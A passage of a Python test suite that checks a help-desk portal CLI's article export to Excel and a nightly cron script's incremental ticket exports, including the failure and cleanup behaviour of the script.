        assert lines == [a.to_dict() for a in spanish]
        assert sorted(line["body"] for line in lines) == ["# Pasos\n\nUno", "@body"]
        ok(cli("export", "articles", "-o", "kb.xlsx", "--collection", "colombia"))
        book = openpyxl.load_workbook("kb.xlsx")
        assert book.sheetnames == ["Articles"]
        sheet = book["Articles"]
        assert [c.value for c in sheet[1]][:3] == ["ID", "Title", "Collection"]
        assert sheet.max_row == 3 and sheet["G2"].is_date and sheet.freeze_panes == "A2"


# --- the cron example -------------------------------------------------------------------------------------------


class TestNightlyScript:
    """examples/cron/nightly-export.sh run the way cron runs it, on two nights and on a bad one."""

    SCRIPT = Path(__file__).resolve().parent.parent / "examples" / "cron" / "nightly-export.sh"

    def run(self, tmp_path: Path, **env: str) -> subprocess.CompletedProcess[str]:
        portalctl = Path(sys.executable).parent / "portalctl"
        if not os.access(portalctl, os.X_OK):
            pytest.skip("no portalctl console script next to this interpreter")
        environ = {**os.environ, "PORTALCTL": str(portalctl), "EXPORT_DIR": str(tmp_path / "exports"),
                   "STATE_DIR": str(tmp_path / "state"), **env}
        return subprocess.run(["bash", str(self.SCRIPT)], capture_output=True, text=True, env=environ,
                              stdin=subprocess.DEVNULL, timeout=120)

    def exported(self, tmp_path: Path, suffix: str) -> list[list[int]]:
        """Ticket ids of each night's file, oldest night first."""
        nights = []
        for path in sorted((tmp_path / "exports").glob(f"tickets-*{suffix}")):
            if suffix == ".csv":
                nights.append(sorted(int(r["id"]) for r in read_csv(path)))
            else:
                rows = openpyxl.load_workbook(path)["Tickets"].iter_rows(min_row=2, values_only=True)
                nights.append(sorted(r[0] for r in rows))
        return nights

    def test_each_night_exports_what_changed_and_a_bad_night_changes_nothing(
        self, portal: Portal, as_user: AsUser, tmp_path: Path
    ) -> None:
        made = [as_user(ANA).tickets.create(TicketDraft(subject=f"Ticket {n}", body="x")) for n in range(2)]
        next_second()
        first = self.run(tmp_path)
        assert first.returncode == 0, first.stderr
        assert first.stdout == ""
        assert first.stderr.count("Exported 2 tickets to") == 2 and first.stderr.rstrip().endswith("done")
        state = {p.name: p.read_bytes() for p in (tmp_path / "state").glob("*.json")}
        assert sorted(state) == ["nightly-csv.json", "nightly-xlsx.json"]

        next_second()
        as_user(ANA).tickets.reply(made[0].id, body="Any news?")
        second = self.run(tmp_path)
        assert second.returncode == 0, second.stderr
        ids = [t.id for t in made]
        assert self.exported(tmp_path, ".csv") == [ids, [made[0].id]]
        assert self.exported(tmp_path, ".xlsx") == [ids, [made[0].id]]

        state = {p.name: p.read_bytes() for p in (tmp_path / "state").glob("*.json")}
        old = tmp_path / "exports" / "tickets-20200101T000000Z.csv"
        old.write_text("id\n")
        os.utime(old, (time.time() - 100 * 86400,) * 2)
        next_second()
        bad = self.run(tmp_path, PORTALCTL="false")
        assert bad.returncode == 1
        assert "failed (exit 1); earlier exports and the state files are untouched" in bad.stderr
        assert {p.name: p.read_bytes() for p in (tmp_path / "state").glob("*.json")} == state
        assert old.exists()  # nothing is cleaned up on a failed night

        next_second()
        assert self.run(tmp_path).returncode == 0
        assert not old.exists()
